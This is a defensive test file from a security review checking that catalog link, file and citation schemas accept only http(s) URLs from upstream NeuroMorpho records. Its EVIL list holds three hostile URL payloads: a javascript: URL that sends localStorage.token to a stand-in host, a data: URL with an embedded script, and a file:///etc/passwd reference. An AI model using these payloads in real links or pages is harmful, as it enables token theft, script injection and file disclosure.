/**
 * Security review L9: catalog URLs from an upstream record accept any scheme. A record whose
 * NeuroMorpho `_links.self.href` is `javascript:…` must not be stored or served with it.
 */
import assert from "node:assert/strict";
import {
  catalogCitationSchema,
  catalogContentSchema,
  catalogFileSchema,
  catalogLinkSchema,
} from "../../src/schemas/catalog.js";

const EVIL = [
  "javascript:fetch('//x/'+localStorage.token)",
  "data:text/html,<script>1</script>",
  "file:///etc/passwd",
];

describe("security L9: catalog URLs are http(s) only", () => {
  it("refuses other schemes in files, links and citations", () => {
    for (const url of EVIL) {
      assert.equal(catalogLinkSchema.safeParse({ rel: "api", url }).success, false, url);
      assert.equal(catalogFileSchema.safeParse({ url, format: "swc", name: "a.swc" }).success, false, url);
      assert.equal(catalogCitationSchema.safeParse({ text: "x", url }).success, false, url);
    }
    assert.equal(
      catalogLinkSchema.safeParse({ rel: "page", url: "https://neuromorpho.org/x" }).success,
      true,
    );
  });

  it("drops a hostile link or citation URL from a record instead of storing it", () => {
    const links = catalogContentSchema.shape.links.parse([
      { rel: "page", url: "https://neuromorpho.org/neuron_info.jsp?neuron_name=a" },
      { rel: "api", url: EVIL[0] },
      { rel: "thumbnail", url: EVIL[1] },
    ]);
    assert.deepEqual(links, [{ rel: "page", url: "https://neuromorpho.org/neuron_info.jsp?neuron_name=a" }]);
    const citations = catalogContentSchema.shape.citations.parse([{ text: "PMID:1", url: EVIL[2] }]);
    assert.deepEqual(citations, [{ text: "PMID:1" }]);
  });
});
